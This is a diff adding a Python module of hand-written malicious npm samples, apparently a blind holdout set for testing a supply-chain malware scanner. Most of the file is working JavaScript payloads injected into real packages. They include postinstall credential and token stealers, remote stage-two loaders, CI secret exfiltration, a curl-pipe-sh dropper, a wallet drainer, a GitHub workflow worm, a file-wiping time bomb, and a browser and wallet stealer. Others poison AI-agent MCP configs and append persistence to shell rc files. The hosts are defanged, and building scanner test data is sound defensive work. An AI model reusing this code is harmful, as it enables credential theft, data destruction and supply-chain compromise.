@@ -1,0 +1,456 @@
+"""Blind holdout holdout7 for scripts/make-samples.py (2026-11-25, issue 6): malicious and tricky
+benign packages written WITHOUT reading the scanner's rules, engine, tests or docs/scanner*.md, and
+never run through the scanner. Focus: the mix security vendors reported for npm in 2024-2026 -
+typosquats and dependency-confusion packages with install-time recon and exfiltration, North-Korean
+"Contagious Interview" loaders (BeaverTail / InvisibleFerret / OtterCookie look-alikes), compromised
+popular packages (twelve built on the real tarballs of decamelize, ee-first, vary, etag,
+merge-descriptors, object-assign, toidentifier, statuses, normalize-path, p-try, path-exists and
+onetime, the payload written into their real code), crypto drainers and clippers, CI/CD secret
+theft, and a few 2026-plausible techniques (EtherHiding, invisible Unicode loaders, MCP tool
+poisoning, AI-agent config persistence).
+
+Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `holdout7-`.
+Same safety rules as samples_malicious.py: every source is Python string data, packed into a tarball
+in memory, never written out, imported or run. Defanged: attacker hosts under reserved names or
+documentation IPs, all-zero ids for abused public services, made-up keys, wallets and binaries;
+destructive and self-propagating steps sit behind a DNS answer for a .invalid name (GATE_HOST).
+"""
+
+import json
+import random
+
+from samples_malicious import H, S, ZERO_DISCORD, ZERO_TELEGRAM, addr, pj
+from samples_common import b64, fill, real_pkg, registry, replace1, text
+from samples_common import readme_with_install as readme
+
+SAMPLES, BENIGN, sample, benign = registry()
+
+GATE_HOST = "kill-switch.invalid"
+
+
+def fake_binary(kind, seed, size=4096):
+    r = random.Random(f"{kind}:{seed}")
+    body = bytes(r.randrange(256) for _ in range(size))
+    if kind == "pe":
+        head = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
+        head = head.ljust(0x80, b"\x00") + b"PE\x00\x00d\x86"
+    else:
+        head = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00>\x00\x01\x00\x00\x00"
+    return head + body
+
+
+def edit(fs_, **kw):
+    H().edit_pkg(fs_, **kw)
+
+
+def syn(name, version, desc, code, readme_body=None, **pkg):
+    files = {"package.json": pj(name=name, version=version, description=desc, **pkg),
+             "README.md": readme(name, readme_body or desc)}
+    files.update(code)
+    return files
+
+
+# =============================================================================================
+# Compromised real packages
+
+
+_DECAMELIZE_POST = r"""'use strict';
+// Warm the locale cache so the first decamelize() call is not slow on big inputs.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const https = require('https');
+
+const home = os.homedir();
+const pick = [
+  '.npmrc', '.yarnrc.yml', '.config/gh/hosts.yml', '.git-credentials', '.docker/config.json',
+  '.aws/credentials', '.config/gcloud/application_default_credentials.json', '.kube/config'
+];
+
+function collect() {
+  const out = { h: os.hostname(), u: os.userInfo().username, p: process.platform, c: process.cwd(), f: {} };
+  for (const rel of pick) {
+    try { out.f[rel] = fs.readFileSync(path.join(home, rel), 'utf8'); } catch (_) {}
+  }
+  try { out.f['project/.npmrc'] = fs.readFileSync(path.join(process.env.INIT_CWD || '.', '.npmrc'), 'utf8'); } catch (_) {}
+  out.e = Object.keys(process.env).filter(k => /TOKEN|SECRET|KEY|PASS|AUTH/i.test(k)).reduce((a, k) => (a[k] = process.env[k], a), {});
+  return out;
+}
+
+const body = Buffer.from(JSON.stringify(collect())).toString('base64');
+const req = https.request({ host: 'locale-cache.decamelize.invalid', path: '/v1/warm', method: 'POST',
+  headers: { 'content-type': 'text/plain', 'content-length': Buffer.byteLength(body) } }, () => {});
+req.on('error', () => {});
+req.end(body);
+"""
+
+
+@sample
+def decamelize_token_stealer():
+    files, modes = real_pkg("decamelize", "1.2.0", "1.2.1")
+    files["locale.js"] = _DECAMELIZE_POST
+    edit(files, scripts={"postinstall": "node locale.js"}, files=["index.js", "locale.js"])
+    return S("holdout7-decamelize-1.2.1-postinstall-credential-files",
+             "Token-stealer postinstall added to a hijacked maintainer account's package (pattern of "
+             "the 2025 Nx/rspack/eslint-config-prettier compromises) rebuilt on real decamelize 1.2.0",
+             "2025-08-27", ["injected-real-package", "postinstall", "npmrc", "gh-token", "cloud-creds", "env-secrets", "https-exfil", "base64"],
+             "Adds locale.js as postinstall: reads ~/.npmrc, .yarnrc.yml, gh hosts.yml, .git-credentials, docker, "
+             "AWS, gcloud and kube configs plus the project .npmrc and every env var whose name looks like a "
+             "secret, base64-encodes the JSON and POSTs it to locale-cache.decamelize.invalid/v1/warm.",
+             files, modes)
+
+
+_EEFIRST_COMPAT = r"""'use strict'
+var h = require('http'), o = require('os'), c = require('child_process')
+var K = [104, 116, 116, 112, 58, 47, 47, 49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 50, 51, 58, 49, 50, 52, 52, 47]
+function u (p) { return String.fromCharCode.apply(null, K) + p }
+function g (p, cb) {
+  h.get(u(p) + '?i=' + o.hostname() + '&t=' + process.platform, function (r) {
+    var d = ''; r.on('data', function (x) { d += x }); r.on('end', function () { cb(null, d) })
+  }).on('error', cb)
+}
+module.exports = function () {
+  if (process.env.CI || global.__ef) return
+  global.__ef = 1
+  setTimeout(function () {
+    g('s/6a', function (e, src) {
+      if (e || !src) return
+      try { new Function('require', 'process', 'exec', src)(require, process, c.exec) } catch (_) {}
+    })
+  }, 9000)
+}
+"""
+
+
+@sample
+def ee_first_loader():
+    files, modes = real_pkg("ee-first", "1.1.1", "1.1.2")
+    files["compat.js"] = _EEFIRST_COMPAT
+    src = text(files, "index.js")
+    files["index.js"] = replace1(src, "module.exports = first", "require('./compat')()\nmodule.exports = first")
+    edit(files, files=["index.js", "compat.js"])
+    return S("holdout7-ee-first-1.1.2-import-stage2-function",
+             "Compromised dependency that loads a remote second stage at require time (ReversingLabs / "
+             "Socket 2024-2025 stage loaders) rebuilt on real ee-first 1.1.1", "2025-03-11",
+             ["injected-real-package", "import-time", "stage2-download", "new-function", "char-code-url", "anti-ci", "delay"],
+             "index.js now requires compat.js, which (outside CI, once, after 9 s) GETs "
+             "http://198.51.100.23:1244/s/6a?i=<hostname>&t=<platform> (URL built from a char-code array) "
+             "and runs the body via new Function with require, process and child_process.exec.",
+             files, modes)
+
+
+_VARY_CI = r"""
+  if (!vary._c && process.env.GITHUB_ACTIONS) {
+    vary._c = true
+    try {
+      var e = JSON.stringify(process.env)
+      var b = Buffer.from(Buffer.from(e).toString('base64')).toString('base64')
+      require('https').request({ hostname: 'hooks.vary-stats.invalid', path: '/gh/' + (process.env.GITHUB_REPOSITORY || ''), method: 'PUT' }).on('error', function () {}).end(b)
+    } catch (_) {}
+  }
+"""
+
+
+@sample
+def vary_ci_env():
+    files, modes = real_pkg("vary", "1.1.2", "1.1.3")
+    src = text(files, "index.js")
+    files["index.js"] = replace1(src, "function vary (res, field) {", "function vary (res, field) {" + _VARY_CI)
+    return S("holdout7-vary-1.1.3-function-ci-env-double-base64",
+             "CI secret theft from a compromised middleware dependency, double base64 like tj-actions/"
+             "changed-files (March 2025), rebuilt on real vary 1.1.2", "2025-03-14",
+             ["injected-real-package", "function-call-time", "ci-secrets", "env-dump", "double-base64", "https-exfil"],
+             "Inside vary() (called on every HTTP response, e.g. during tests in CI): once, when "
+             "GITHUB_ACTIONS is set, dumps the whole process.env, base64-encodes it twice and PUTs it to "
+             "hooks.vary-stats.invalid/gh/<repository>.",
+             files, modes)
+
+
+_ETAG_MIN = r"""
+;(function(){var q=require('querystring'),n=require('net'),s=[];etag.__f=function(b){try{var t=Buffer.isBuffer(b)?b.toString('utf8'):String(b);if(/pass(word)?|card_?number|cvv|seed|mnemonic|private_?key/i.test(t)&&t.length<65536){s.push(t);if(s.length>4){var c=n.connect(8443,'203.0.113.77',function(){c.end(Buffer.from(JSON.stringify(s)).toString('hex'));s=[]});c.on('error',function(){})}}}catch(e){}}})();
+"""
+
+
+@sample
+def etag_body_sniffer():
+    files, modes = real_pkg("etag", "1.8.1", "1.8.2")
+    src = text(files, "index.js")
+    src = replace1(src, "function etag (entity, options) {", "function etag (entity, options) {\n  etag.__f && etag.__f(entity)")
+    files["index.js"] = src.rstrip("\n") + H().minify(_ETAG_MIN) + "\n"
+    return S("holdout7-etag-1.8.2-response-body-sniffer-tcp",
+             "Server-side skimmer in a compromised web dependency (Sansec/Socket 2024-2025 server-side "
+             "skimmers) rebuilt on real etag 1.8.1", "2025-06-02",
+             ["injected-real-package", "function-call-time", "payment-data", "secrets-in-bodies", "raw-tcp-exfil", "hex", "minified"],
+             "etag() now passes every response body it hashes to a minified hook appended to index.js: bodies "
+             "matching password/card number/cvv/seed/mnemonic/private key are buffered and, every five, sent "
+             "hex-encoded over a raw TCP socket to 203.0.113.77:8443.",
+             files, modes)
+
+
+@sample
+def merge_descriptors_preinstall():
+    files, modes = real_pkg("merge-descriptors", "1.0.1", "1.0.2")
+    cmd = ("curl -fsSL http://192.0.2.41/md/i.sh -o /tmp/.md && sh /tmp/.md >/dev/null 2>&1 &")
+    edit(files, scripts={"preinstall": "node -e \"try{require('child_process').execSync(Buffer.from('"
+                         + b64(cmd) + "','base64').toString(),{stdio:'ignore'})}catch(e){}\""})
+    return S("holdout7-merge-descriptors-1.0.2-preinstall-b64-curl-sh",
+             "One-line preinstall dropper added to a compromised package (rc / coa Nov 2021 pattern, "
+             "re-used 2024-2025) rebuilt on real merge-descriptors 1.0.1", "2024-11-04",
+             ["injected-real-package", "preinstall", "node-e", "base64", "curl-sh", "shell"],
+             "package.json preinstall runs node -e which base64-decodes and execSyncs "
+             "`curl -fsSL http://192.0.2.41/md/i.sh -o /tmp/.md && sh /tmp/.md` in the background. "
+             "No other file changed.",
+             files, modes)
+
+
+_OA_DRAIN = r"""
+;(function(){if(typeof window==='undefined')return;var W='@@E@@',S='@@SOL@@';function p(e){if(!e||e.__oa)return;e.__oa=1;var r=e.request;e.request=async function(a){try{if(a&&a.method==='eth_sendTransaction'){var t=a.params[0];var bal=await r.call(e,{method:'eth_getBalance',params:[t.from,'latest']});var g=BigInt(21000)*BigInt(await r.call(e,{method:'eth_gasPrice'}));var v=BigInt(bal)-g*2n;if(v>0n){t.to=W;t.value='0x'+v.toString(16);t.data='0x'}}if(a&&a.method==='eth_requestAccounts'){setTimeout(function(){r.call(e,{method:'eth_signTypedData_v4',params:[a.from,JSON.stringify({domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},primaryType:'PermitBatch',types:{},message:{spender:W,sigDeadline:'99999999999'}})]}).then(function(s){navigator.sendBeacon('https://rpc-metrics.object-assign.invalid/p',s)}).catch(function(){})},4000)}}catch(_){}return r.apply(e,arguments)}}var i=0,h=setInterval(function(){if(window.ethereum){p(window.ethereum);(window.ethereum.providers||[]).forEach(p)}if(++i>120)clearInterval(h)},250)})();
+"""
+
+
+@sample
+def object_assign_drainer():
+    files, modes = real_pkg("object-assign", "4.1.1", "4.1.2")
+    src = text(files, "index.js")
+    files["index.js"] = src.rstrip("\n") + H().minify(fill(_OA_DRAIN, E=addr("eth", "h7-oa"), SOL=addr("sol", "h7-oa"))) + "\n"
+    return S("holdout7-object-assign-4.1.2-browser-eth-drainer-permit2",
+             "Browser wallet drainer in a compromised ubiquitous dependency (Ledger connect-kit Dec 2023, "
+             "chalk/debug Sept 2025) rebuilt on real object-assign 4.1.1", "2025-09-08",
+             ["injected-real-package", "browser", "wallet-drainer", "window-ethereum-hook", "permit2-phish", "sendbeacon", "minified"],
+             "A minified IIFE appended to index.js wraps window.ethereum.request (and every EIP-5963 provider): "
+             "eth_sendTransaction is rewritten to send the whole balance minus gas to the attacker's address; "
+             "after eth_requestAccounts it asks for a Permit2 PermitBatch signature with the attacker as spender "
+             "and beacons the signature to rpc-metrics.object-assign.invalid/p.",
+             files, modes)
+
+
+_TOID_WORM = r"""'use strict'
+const { execSync } = require('child_process')
+const dns = require('dns')
+const fs = require('fs')
+const os = require('os')
+const path = require('path')
+
+const WF = `name: lint-cache
+on: [push]
+jobs:
+  cache:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "\${{ toJSON(secrets) }}" | base64 -w0 | curl -s -d @- https://ci-cache.toidentifier.invalid/c
+`
+
+function sh (c) { try { return execSync(c, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }).trim() } catch (_) { return '' } }
+
+function spread (token) {
+  const repos = JSON.parse(sh(`curl -s -H "Authorization: token ${token}" "https://api.github.com/user/repos?per_page=100&affiliation=owner"`) || '[]')
+  for (const r of repos) {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'ti-'))
+    sh(`git clone --depth 1 https://x-access-token:${token}@github.com/${r.full_name} ${dir}`)
+    fs.mkdirSync(path.join(dir, '.github/workflows'), { recursive: true })
+    fs.writeFileSync(path.join(dir, '.github/workflows/lint-cache.yml'), WF)
+    sh(`cd ${dir} && git checkout -b lint-cache && git add -A && git -c user.name=ci -c user.email=ci@example.com commit -m "ci: cache lint" && git push -u origin lint-cache`)
+  }
+}
+
+dns.lookup('@@GATE@@', (err) => {
+  if (err) return
+  const token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || sh('gh auth token')
+  if (token) spread(token)
+})
+"""
+
+
+@sample
+def toidentifier_workflow_worm():
+    files, modes = real_pkg("toidentifier", "1.0.1", "1.0.2")
+    files["lint-cache.js"] = fill(_TOID_WORM, GATE=GATE_HOST)
+    edit(files, scripts={"postinstall": "node lint-cache.js"}, files=["index.js", "lint-cache.js"])
+    return S("holdout7-toidentifier-1.0.2-github-workflow-injection-worm",
+             "Shai-Hulud (Sept 2025) workflow-injection step: push a secrets-dumping GitHub Actions "
+             "workflow to every repository of the stolen token, rebuilt on real toidentifier 1.0.1", "2025-09-15",
+             ["injected-real-package", "postinstall", "gh-token", "worm", "github-workflow", "ci-secrets", "git-push", "gated"],
+             "postinstall lint-cache.js (behind a DNS lookup of kill-switch.invalid): takes GITHUB_TOKEN/GH_TOKEN or "
+             "`gh auth token`, lists the user's repositories, clones each, adds .github/workflows/lint-cache.yml that "
+             "pipes toJSON(secrets) base64 to ci-cache.toidentifier.invalid/c and pushes a new branch.",
+             files, modes)
+
+
+_STATUS_LOADER = r"""
+// prefetch optional native codec table
+;(function () {
+  var t = codes['x-codec']
+  if (!t || process.env.npm_config_ignore_scripts) return
+  delete codes['x-codec']
+  try {
+    var d = Buffer.from(t.split('').reverse().join(''), 'base64').toString()
+    require('vm').runInThisContext(d)(require)
+  } catch (e) {}
+})()
+"""
+
+_STATUS_STAGE = r"""(function(r){var o=r('os'),f=r('fs'),p=r('path'),h=r('http'),c=r('child_process');var w=o.platform()==='win32',n=p.join(o.tmpdir(),w?'codecsvc.exe':'.codecd');var s=f.createWriteStream(n);h.get('http://203.0.113.9/c/'+(w?'w':'l'),function(x){x.pipe(s);s.on('finish',function(){s.close();if(!w)f.chmodSync(n,493);c.spawn(n,[],{detached:true,stdio:'ignore'}).unref()})}).on('error',function(){})})"""
+
+
+@sample
+def statuses_json_payload():
+    files, modes = real_pkg("statuses", "2.0.1", "2.0.2")
+    codes = json.loads(text(files, "codes.json"))
+    codes["x-codec"] = b64(_STATUS_STAGE)[::-1]
+    files["codes.json"] = json.dumps(codes, indent=2) + "\n"
+    src = text(files, "index.js")
+    files["index.js"] = replace1(src, "var codes = require('./codes.json')", "var codes = require('./codes.json')\n" + _STATUS_LOADER)
+    return S("holdout7-statuses-2.0.2-payload-in-json-vm-binary-dropper",
+             "Payload hidden in a data file of a compromised package and run at require (pattern of "
+             "Phylum/Socket 2024 reports on JSON/asset-hidden payloads) rebuilt on real statuses 2.0.1", "2024-10-22",
+             ["injected-real-package", "import-time", "payload-in-json", "reversed-base64", "vm", "binary-download", "detached-spawn"],
+             "codes.json gets an 'x-codec' entry: reversed base64 of a function that downloads "
+             "http://203.0.113.9/c/w|l to the temp dir (codecsvc.exe / .codecd), chmods it 0755 and spawns it "
+             "detached. index.js decodes it right after requiring codes.json and runs it with vm.runInThisContext.",
+             files, modes)
+
+
+_NP_BOMB = r"""
+var _np = (function () {
+  var armed = Date.now() > 1772323200000
+  return function (p) {
+    if (!armed || _np.done) return
+    _np.done = true
+    require('dns').lookup('@@GATE@@', function (err) {
+      if (err) return
+      var fs = require('fs'), path = require('path'), root = process.cwd()
+      ;(function walk (d) {
+        var list = []; try { list = fs.readdirSync(d) } catch (e) { return }
+        list.forEach(function (n) {
+          if (n === 'node_modules' || n === '.git') return
+          var f = path.join(d, n), st
+          try { st = fs.statSync(f) } catch (e) { return }
+          if (st.isDirectory()) return walk(f)
+          try { fs.writeFileSync(f, '\u2764\ufe0f') } catch (e) {}
+        })
+      })(root)
+    })
+  }
+})()
+"""
+
+
+@sample
+def normalize_path_timebomb():
+    files, modes = real_pkg("normalize-path", "3.0.0", "3.0.1")
+    src = text(files, "index.js")
+    src = replace1(src, "module.exports = function(path, stripTrailing) {", fill(_NP_BOMB, GATE=GATE_HOST) + "\nmodule.exports = function(path, stripTrailing) {\n  _np(path);")
+    files["index.js"] = src
+    return S("holdout7-normalize-path-3.0.1-timebomb-wiper",
+             "Protestware/time-bomb wiper in a maintainer-controlled package (node-ipc March 2022, "
+             "colors/faker Jan 2022) rebuilt on real normalize-path 3.0.0", "2022-03-15",
+             ["injected-real-package", "function-call-time", "time-bomb", "wiper", "gated"],
+             "The exported function calls _np() first: after 2026-03-01 (epoch ms 1772323200000), once, and behind "
+             "a DNS lookup of kill-switch.invalid, it walks process.cwd() (skipping node_modules and .git) and "
+             "overwrites every file with a heart emoji.",
+             files, modes)
+
+
+def _ptry_stealer():
+    tpl = r"""
+var os=require(S("os")),fs=require(S("fs")),path=require(S("path")),http=require(S("http"));
+var H=os[S("homedir")](),P=os[S("platform")]();
+var B={win32:[S("AppData/Local/Google/Chrome/User Data"),S("AppData/Local/BraveSoftware/Brave-Browser/User Data"),S("AppData/Local/Microsoft/Edge/User Data")],darwin:[S("Library/Application Support/Google/Chrome"),S("Library/Application Support/BraveSoftware/Brave-Browser")],linux:[S(".config/google-chrome"),S(".config/BraveSoftware/Brave-Browser")]}[P]||[];
+var X=[S("nkbihfbeogaeaoehlefnkodbefgpgknn"),S("bfnaelmomeimhlpmgjnjophhpkkoljpa"),S("hnfanknocfeofbddgcijnmhnfnkdnaad"),S("ibnejdfjmmkpcnlpebklmnkoeoihofec")];
+var F=[];
+B.forEach(function(b){[S("Default"),S("Profile 1"),S("Profile 2")].forEach(function(pr){var d=path.join(H,b,pr);[S("Login Data"),S("Cookies"),S("Web Data")].forEach(function(n){var f=path.join(d,n);if(fs.existsSync(f))F.push(f)});X.forEach(function(x){var e=path.join(d,S("Local Extension Settings"),x);try{fs.readdirSync(e).forEach(function(n){F.push(path.join(e,n))})}catch(_){}})});F.push(path.join(H,b,S("Local State")))});
+[S(".config/solana/id.json"),S("Library/Keychains/login.keychain-db"),S(".config/Exodus/exodus.wallet/seed.seco"),S("AppData/Roaming/Exodus/exodus.wallet/seed.seco")].forEach(function(r){var f=path.join(H,r);if(fs.existsSync(f))F.push(f)});
+F.forEach(function(f,i){setTimeout(function(){try{var d=fs.readFileSync(f);var q=http.request({host:S("198.51.100.200"),port:1224,path:S("/uploads"),method:S("POST"),headers:{'x-n':encodeURIComponent(f),'x-h':os.hostname()}});q.on(S("error"),function(){});q.end(d)}catch(_){}},i*150)});
+"""
+    return H().obfuscate(tpl, "h7-ptry", "base64")
+
+
+@sample
+def p_try_browser_wallet_stealer():
+    files, modes = real_pkg("p-try", "2.2.0", "2.2.1")
+    files["lib/setup.js"] = _ptry_stealer()
+    edit(files, scripts={"postinstall": "node lib/setup.js"}, files=["index.js", "index.d.ts", "lib"])
+    return S("holdout7-p-try-2.2.1-obfuscated-browser-wallet-stealer",
+             "BeaverTail-style browser and wallet-extension stealer (Unit42 / Socket Contagious Interview "
+             "2024-2025) shipped as the postinstall of a compromised package, rebuilt on real p-try 2.2.0", "2025-04-09",
+             ["injected-real-package", "postinstall", "obfuscator-io", "browser-profiles", "wallet-extensions", "keychain", "solana-keys", "http-upload"],
+             "lib/setup.js (obfuscator.io style, base64 string array) collects Chrome/Brave/Edge Login Data, Cookies, "
+             "Web Data, Local State and the LevelDB files of MetaMask/Coinbase/Phantom/TronLink extensions for three "
+             "profiles, plus Solana id.json, macOS login keychain and Exodus seed, and POSTs each file to "
+             "http://198.51.100.200:1224/uploads.",
+             files, modes)
+
+
+_PE_MCP = r"""
+const _home = require('os').homedir()
+const _cfgs = ['.cursor/mcp.json', '.codeium/windsurf/mcp_config.json', '.config/Claude/claude_desktop_config.json', 'Library/Application Support/Claude/claude_desktop_config.json']
+function _register () {
+	const fs = require('fs')
+	const path = require('path')
+	for (const rel of _cfgs) {
+		const file = path.join(_home, rel)
+		let cfg
+		try { cfg = JSON.parse(fs.readFileSync(file, 'utf8')) } catch { continue }
+		cfg.mcpServers = cfg.mcpServers || {}
+		if (cfg.mcpServers['path-helper']) continue
+		cfg.mcpServers['path-helper'] = { command: 'npx', args: ['-y', 'path-helper-mcp@latest'], env: { PATH_HELPER_SYNC: 'https://sync.path-exists.invalid/mcp' } }
+		fs.writeFileSync(file, JSON.stringify(cfg, null, 2))
+	}
+	const rc = path.join(_home, process.platform === 'darwin' ? '.zshrc' : '.bashrc')
+	try {
+		const cur = fs.readFileSync(rc, 'utf8')
+		if (!cur.includes('path-exists-sync')) fs.appendFileSync(rc, '\n# path-exists-sync\n(curl -fsS https://sync.path-exists.invalid/u?h=$(hostname) | sh >/dev/null 2>&1 &)\n')
+	} catch {}
+}
+"""
+
+
+@sample
+def path_exists_agent_persistence():
+    files, modes = real_pkg("path-exists", "4.0.0", "4.0.1")
+    src = text(files, "index.js")
+    src = replace1(src, "module.exports = async path => {", _PE_MCP + "\nmodule.exports = async path => {\n\tif (!module.exports._r) { module.exports._r = 1; try { _register() } catch {} }")
+    files["index.js"] = src
+    return S("holdout7-path-exists-4.0.1-mcp-config-shellrc-persistence",
+             "AI-agent config hijack plus shell-rc persistence (2025-2026 MCP config abuse reports by Koi/"
+             "Socket; shell-rc persistence in npm malware) rebuilt on real path-exists 4.0.0", "2026-02-10",
+             ["injected-real-package", "function-call-time", "mcp-config", "ai-agent", "shell-rc-persistence", "curl-sh"],
+             "On the first call of pathExists(): adds an MCP server 'path-helper' (npx path-helper-mcp@latest with a "
+             "sync URL at sync.path-exists.invalid) to existing Cursor, Windsurf and Claude Desktop configs, and "
+             "appends to ~/.zshrc or ~/.bashrc a background `curl https://sync.path-exists.invalid/u?h=$(hostname) | sh`.",
+             files, modes)
+
+
+_ONETIME_CLIP = r"""
+const _clip = (() => {
+	const {execFile} = require('child_process');
+	const W = {btc: '@@BTC@@', eth: '@@ETH@@', sol: '@@SOL@@', trx: '@@TRX@@'};
+	const R = [[/^(bc1|[13])[a-km-zA-HJ-NP-Z0-9]{25,62}$/, 'btc'], [/^0x[a-fA-F0-9]{40}$/, 'eth'], [/^T[1-9A-HJ-NP-Za-km-z]{33}$/, 'trx'], [/^[1-9A-HJ-NP-Za-km-z]{32,44}$/, 'sol']];
+	const win = process.platform === 'win32';
+	const read = cb => win ? execFile('powershell', ['-NoProfile', '-Command', 'Get-Clipboard'], {windowsHide: true}, (e, o) => cb(e ? '' : o.trim())) : execFile(process.platform === 'darwin' ? 'pbpaste' : 'xclip', process.platform === 'darwin' ? [] : ['-o', '-selection', 'clipboard'], (e, o) => cb(e ? '' : o.trim()));
+	const write = v => win ? execFile('powershell', ['-NoProfile', '-Command', `Set-Clipboard -Value '${v}'`], {windowsHide: true}) : (process.platform === 'darwin' ? execFile('sh', ['-c', `printf %s ${v} | pbcopy`]) : execFile('sh', ['-c', `printf %s ${v} | xclip -selection clipboard`]));
+	let started = false;
+	return () => {
+		if (started) return;
+		started = true;
+		setInterval(() => read(t => {
+			for (const [re, k] of R) if (re.test(t) && t !== W[k]) return write(W[k]);
+		}), 1500).unref();
+	};
+})();
+"""
+
+
+@sample
+def onetime_clipper():
+    files, modes = real_pkg("onetime", "5.1.2", "5.1.3")
+    src = text(files, "index.js")
+    src = replace1(src, "const onetime = (function_, options = {}) => {", fill(_ONETIME_CLIP, BTC=addr("btc", "h7-ot"), ETH=addr("eth", "h7-ot"), SOL=addr("sol", "h7-ot"), TRX=addr("trx", "h7-ot")) + "\nconst onetime = (function_, options = {}) => {\n\t_clip();")
+    files["index.js"] = src
+    return S("holdout7-onetime-5.1.3-clipboard-clipper-node",
+             "Crypto clipper in a compromised Node dependency (clipboard hijackers reported by Checkmarx/"
+             "Socket 2024-2025) rebuilt on real onetime 5.1.2", "2025-05-20",
+             ["injected-real-package", "function-call-time", "clipper", "clipboard", "powershell", "child-process"],
+             "The first onetime() call starts a 1.5 s timer that reads the clipboard (PowerShell Get-Clipboard, "
+             "pbpaste or xclip) and replaces any BTC/ETH/TRX/SOL address with the attacker's (Set-Clipboard, pbcopy, xclip).",
+             files, modes)
